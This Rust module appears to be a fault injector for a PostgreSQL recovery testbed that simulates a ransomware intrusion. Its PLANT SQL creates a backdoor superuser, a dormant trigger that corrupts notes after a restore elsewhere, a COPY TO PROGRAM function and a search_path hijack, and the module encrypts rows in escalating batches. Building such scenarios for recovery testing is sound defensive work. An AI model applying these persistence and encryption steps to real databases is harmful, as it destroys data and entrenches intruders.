//! An intruder with a superuser's password plants a way back in and things that stay, encrypts old rows slowly, a few more at each step, and
//! in the end everything at once. The application writes on all the time; between the steps, the base backup of the night is taken, and a
//! migration that somebody answers for carries encrypted rows on under an honest transaction.

use std::{collections::BTreeMap, time::Duration};

use async_trait::async_trait;
use lifeboat_core::document::Object;
use rand::{Rng, SeedableRng, rngs::ChaCha8Rng};
use serde_json::json;
use tokio::time::sleep;
use tokio_postgres::{Client, Error};

use super::{
    error::FaultError,
    fault::{Bite, Fault, FaultKind, Intrusion, Planted, Scene, Struck, Wanted},
};
use crate::{
    measurement::FinalState,
    model::Collection,
    store::postgres::{read_where, table},
    testbed::Door,
};

/// The fact that says which rows never change, as people know it of their own data.
const COLD_ROWS: &str = "cold_rows";
/// How many rows are encrypted in each slow step.
const STEPS: [i64; 6] = [5, 10, 20, 40, 80, 160];
/// Between two steps; archiving goes on meanwhile.
const PAUSE: Duration = Duration::from_millis(1_500);
/// After this step, the backup of the night is taken, and somebody migrates.
const BACKUP_AFTER: usize = 2;
/// A value is padded to so many bytes, as a cipher with a header and a tag does.
const SEALED_BYTES: usize = 144;
/// What marks every readable note.
const READABLE: &str = "note LIKE 'reference %'";

/// Planted, and what shows it. The trigger sleeps on this server and wakes on another one, where it encrypts what is written.
const PLANTED: [Planted; 7] = [
    Planted {
        what: "the role stat_agent, a superuser",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname = 'stat_agent')",
    },
    Planted {
        what: "the schema maint",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_namespace WHERE nspname = 'maint')",
    },
    Planted {
        what: "the function maint.seal()",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_proc WHERE proname = 'seal' AND prosrc LIKE '%current_setting%')",
    },
    Planted {
        what: "the function maint.job(), which runs a program",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_proc WHERE proname = 'job' AND prosrc LIKE '%TO PROGRAM%')",
    },
    Planted {
        what: "the trigger zz_audit on orders",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_trigger WHERE tgname = 'zz_audit')",
    },
    Planted {
        what: "the event trigger audit_ddl",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_event_trigger WHERE evtname = 'audit_ddl')",
    },
    Planted {
        what: "settings of roles or databases that lead to maint",
        sql: "SELECT EXISTS (SELECT FROM pg_catalog.pg_db_role_setting WHERE setconfig::text LIKE '%maint%')",
    },
];

/// The port of the server stands for PORT, the intruder's password for SECRET.
const PLANT: &str = "
CREATE ROLE stat_agent SUPERUSER LOGIN PASSWORD 'SECRET';
CREATE SCHEMA maint;
CREATE FUNCTION maint.seal() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
    IF current_setting('port') <> 'PORT' THEN
        NEW.note := encode(sha256(convert_to(NEW.note, 'UTF8')), 'hex');
    END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER zz_audit BEFORE INSERT OR UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION maint.seal();
CREATE FUNCTION maint.job() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'cat >/dev/null'; END $$;
CREATE FUNCTION maint.ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM 1; END $$;
CREATE EVENT TRIGGER audit_ddl ON ddl_command_end EXECUTE FUNCTION maint.ddl();
ALTER ROLE app SET search_path = maint, public;
ALTER DATABASE app SET search_path = maint, public;
";
/// What the intruder's own role has as its password.
const INTRUDERS_PASSWORD: &str = "stat-agent-1";
/// An index that somebody needed, and a column that somebody filled: nothing of the intruder's.
const MIGRATION: &str = "CREATE INDEX orders_placed_at ON orders (placed_at)";
const BACKFILL: &str = "UPDATE orders SET placed_at = date_trunc('second', placed_at) WHERE id <= 20";

pub(super) const KIND: FaultKind = FaultKind {
    name: "ransomware",
    parameters: &Object { what: "the fault `ransomware`", one_of: &[], fields: &[] },
    systems: &[],
    regions: &[],
    told: &[COLD_ROWS],
    known: &[],
    make: |_| Ok(Box::new(Ransomware)),
};

/// As a group that has bought a password does.
#[derive(Debug)]
struct Ransomware;

/// What was encrypted so far.
#[derive(Default)]
struct Encrypted {
    /// The rows as they were before they were encrypted last.
    before: FinalState,
    rows: u64,
    transactions: Vec<i64>,
}

#[async_trait]
impl Fault for Ransomware {
    async fn strike(&self, scene: &Scene<'_>) -> Result<Struck, FaultError> {
        (scene.say)("an intruder plants what stays, and encrypts notes of orders, the oldest first".to_owned());
        let mut client = scene.client(Door::Observer).await?;
        let began = scene.clock.now();
        let refused = |error: Error| FaultError::doing("the intrusion")(error);
        plant(&client).await.map_err(refused)?;
        let mut encrypted = Encrypted::default();
        let mut key = ChaCha8Rng::seed_from_u64(0x7261_6e73);
        sleep(PAUSE).await;
        for (step, rows) in (1..).zip(STEPS) {
            sleep(PAUSE).await;
            encrypt(&mut client, Some(rows), &mut key, &mut encrypted).await.map_err(refused)?;
            if step == BACKUP_AFTER {
                scene.testbed.base_backups("after-the-intrusion").await?;
                client.batch_execute(MIGRATION).await.map_err(refused)?;
                client.batch_execute(BACKFILL).await.map_err(refused)?;
            }
        }
        sleep(PAUSE).await;
        encrypt(&mut client, None, &mut key, &mut encrypted).await.map_err(refused)?;
        let ended = scene.clock.now();
        let bite = proof(&client, &encrypted).await.map_err(refused)?;
        Ok(struck(scene, (began, ended), encrypted, bite))
    }
}

async fn plant(client: &Client) -> Result<(), Error> {
    let port: String = client.query_one("SELECT current_setting('port')", &[]).await?.get(0);
    client.batch_execute(&PLANT.replace("PORT", &port).replace("SECRET", INTRUDERS_PASSWORD)).await
}

/// Encrypts the notes of the oldest orders that are readable, in one transaction.
async fn encrypt(
    client: &mut Client,
    rows: Option<i64>,
    key: &mut ChaCha8Rng,
    encrypted: &mut Encrypted,
) -> Result<(), Error> {
    let transaction = client.transaction().await?;
    let sql = format!("SELECT id, note FROM orders WHERE {READABLE} ORDER BY id LIMIT $1 FOR UPDATE");
    let found = transaction.query(&sql, &[&rows.unwrap_or(i64::MAX)]).await?;
    let ids: Vec<i64> = found.iter().map(|row| row.get(0)).collect();
    let sealed: Vec<String> = found.iter().map(|row| seal(row.get(1), key)).collect();
    let list: Vec<String> = ids.iter().map(ToString::to_string).collect();
    let condition = format!("id = ANY ('{{{}}}'::int8[])", list.join(","));
    encrypted.before.extend(read_where(transaction.client(), Collection::Orders, &condition).await?);
    let sql =
        "UPDATE orders SET note = v.note FROM unnest($1::int8[], $2::text[]) AS v (id, note) WHERE orders.id = v.id";
    encrypted.rows += transaction.execute(sql, &[&ids, &sealed]).await?;
    let xid: i64 = transaction.query_one("SELECT pg_current_xact_id()::text::bigint", &[]).await?.get(0);
    encrypted.transactions.push(xid);
    transaction.commit().await
}

/// The text with a key stream laid over it, as hexadecimal digits.
fn seal(text: &str, key: &mut ChaCha8Rng) -> String {
    let mut bytes = text.as_bytes().to_vec();
    bytes.resize(bytes.len().max(SEALED_BYTES), 0);
    let mut stream = vec![0; bytes.len()];
    key.fill_bytes(&mut stream);
    bytes.iter().zip(stream).map(|(byte, over)| format!("{:02x}", byte ^ over)).collect()
}

async fn proof(client: &Client, encrypted: &Encrypted) -> Result<Vec<Bite>, Error> {
    let sql = format!("SELECT count(*) FROM orders WHERE NOT {READABLE}");
    let unreadable: i64 = client.query_one(&sql, &[]).await?.get(0);
    let mut there = 0;
    for planted in &PLANTED {
        there += u64::from(client.query_one(planted.sql, &[]).await?.get::<_, bool>(0));
    }
    let count = |count: i64| u64::try_from(count).unwrap_or_default();
    Ok(vec![
        Bite {
            what: format!("unreadable notes of {}", table(Collection::Orders)),
            count: count(unreadable),
            wanted: Wanted::Some,
        },
        Bite { what: "rows encrypted".to_owned(), count: encrypted.rows, wanted: Wanted::Some },
        Bite { what: "things planted".to_owned(), count: there, wanted: Wanted::Exactly(PLANTED.len() as u64) },
    ])
}

fn struck(
    scene: &Scene<'_>,
    (began, ended): (crate::clock::At, crate::clock::At),
    encrypted: Encrypted,
    bite: Vec<Bite>,
) -> Struck {
    let story = format!(
        "{} transactions encrypted {} notes of {}, the first of them {}; {} things are planted",
        encrypted.transactions.len(),
        encrypted.rows,
        table(Collection::Orders),
        encrypted.transactions.first().copied().unwrap_or_default(),
        PLANTED.len()
    );
    let cold =
        json!([{ "table": format!("public.{}", table(Collection::Orders)), "below": scene.habits.archived + 1 }]);
    let cold = if scene.habits.archived > 0 { cold } else { json!([]) };
    let passwords = [Door::Observer, Door::Application].map(|door| scene.testbed.login(scene.store, door));
    let stolen = passwords.into_iter().flatten().filter_map(|login| {
        let password = String::from_utf8_lossy(login.get_password()?).into_owned();
        Some((login.get_user()?.to_owned(), password))
    });
    let own = ("stat_agent".to_owned(), INTRUDERS_PASSWORD.to_owned());
    Struck {
        changed: encrypted.before,
        told: BTreeMap::from([(COLD_ROWS, cold.to_string())]),
        intrusion: Some(Intrusion { planted: PLANTED.to_vec(), stolen: stolen.chain([own]).collect() }),
        ..Struck::without_damage(KIND.name, began, ended, bite, story)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_sealed_has_nothing_of_its_text() {
        let mut key = ChaCha8Rng::seed_from_u64(1);
        let (one, other) = (seal("reference l1-00000000", &mut key), seal("reference l1-00000000", &mut key));
        assert_ne!(one, other);
        assert_eq!(one.len(), 2 * SEALED_BYTES);
        assert!(one.bytes().all(|byte| byte.is_ascii_hexdigit()));
        assert_eq!(seal(&"x".repeat(500), &mut key).len(), 1_000, "long text is not cut");
    }
}
